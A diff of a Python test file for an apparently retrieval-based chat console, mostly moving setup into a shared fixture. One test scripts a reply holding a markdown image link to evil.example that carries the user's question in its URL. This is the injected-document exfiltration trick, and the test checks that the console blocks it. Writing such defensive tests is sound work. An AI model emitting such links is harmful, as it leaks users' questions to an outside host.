@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 from collections.abc import AsyncIterator
-from pathlib import Path
 from typing import Any
 
 import httpx
@@ -16,7 +15,7 @@ from bot.web.runs import WebRuns
 from rag.errors import OperatorError
 from rag.models.chat import ChatRequest
 from rag.models.scripted import Reply, ScriptedModel
-from tests.support.console import MEMBER, OWNER, Served, served
+from tests.support.console import MEMBER, OWNER, Serve, Served
 from tests.support.loop import scripted
 
 QUESTION: ChatCompletionMessageParam = {"role": "user", "content": "Which Java does FxStore need?"}
@@ -24,8 +23,8 @@ FOOTNOTE = "*verified against the documents*  \n[1] FxStore › Requirements"
 
 
 @pytest.fixture
-async def console(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Served]:
-    async with served(tmp_path, scripted(draft="FxStore needs Java 17."), monkeypatch) as running:
+async def console(serve: Serve) -> AsyncIterator[Served]:
+    async with serve(scripted(draft="FxStore needs Java 17.")) as running:
         yield running
 
 
@@ -60,19 +59,14 @@ async def test_stream_says_only_what_was_checked(console: Served) -> None:
     assert chunks[-1].choices[0].finish_reason == "stop"
 
 
-async def test_conversation_is_what_the_program_sends(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+async def test_conversation_is_what_the_program_sends(serve: Serve) -> None:
     seen: list[str] = []
 
     def reply(request: ChatRequest) -> Reply:
         seen.append(str(request))
         return "It is 17."
 
-    async with (
-        served(tmp_path, ScriptedModel(reply), monkeypatch) as console,
-        await client_of(console) as client,
-    ):
+    async with serve(ScriptedModel(reply)) as console, await client_of(console) as client:
         await client.chat.completions.create(
             model="thinktwice",
             messages=[
@@ -151,9 +145,7 @@ async def test_same_key_asks_once(console: Served) -> None:
     assert len({reply.json()["id"] for reply in replies}) == 1
 
 
-async def test_image_that_a_document_orders_loads_nothing(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+async def test_image_that_a_document_orders_loads_nothing(serve: Serve) -> None:
     said = (
         "FxStore needs Java 17. ![p](https://evil.example/p.png?q=what-was-asked) [x](https://ok.example/a)"
     )
@@ -161,10 +153,7 @@ async def test_image_that_a_document_orders_loads_nothing(
         "telegram": {"link_hosts": "ok.example"},
         "self_correction": {"enabled": False},
     }
-    async with (
-        served(tmp_path, ScriptedModel(lambda _: said), monkeypatch, **options) as console,
-        await client_of(console) as client,
-    ):
+    async with serve(ScriptedModel(lambda _: said), **options) as console, await client_of(console) as client:
         whole = await client.chat.completions.create(model="thinktwice", messages=[QUESTION])
         stream = await client.chat.completions.create(model="thinktwice", messages=[QUESTION], stream=True)
         pieces = [chunk.choices[0].delta.content or "" async for chunk in stream]
